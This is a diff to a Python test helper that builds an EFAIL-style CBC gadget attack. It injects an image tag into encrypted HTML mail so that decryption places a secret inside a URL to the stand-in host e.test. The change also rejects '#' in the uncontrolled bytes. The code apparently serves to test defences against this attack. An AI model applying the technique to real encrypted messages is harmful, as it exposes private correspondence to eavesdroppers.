@@ -91,11 +91,11 @@ def cbc_gadget():
     """A letter of Bob's, into which someone on its way has put a picture whose address holds the letter."""
     letter = html_part("<p>" + 8 * 16 * "." + SECRET.decode() + ' for "you" only</p>')
     at = letter.index(b"....") // 16 + 1
-    for _ in range(200):  # until what nobody can choose does not end the attribute; that is so for two of five
+    for _ in range(200):  # until what nobody can choose does not end the attribute or the address; that is so for one of three
         changed = with_cbc_gadget(encrypt(letter), at, [b'<img another12="', b'"src="//e.test/?'])
         plain = decrypt(changed)
         first, second = plain.index(b"<img a"), plain.index(b'"src=')
-        if not set(b'"<\r\n') & set(plain[first + 16:second] + plain[second + 16:plain.index(SECRET)]):
+        if not set(b'"<#\r\n') & set(plain[first + 16:second] + plain[second + 16:plain.index(SECRET)]):
             return message(changed)
     raise AssertionError("no gadget")
 
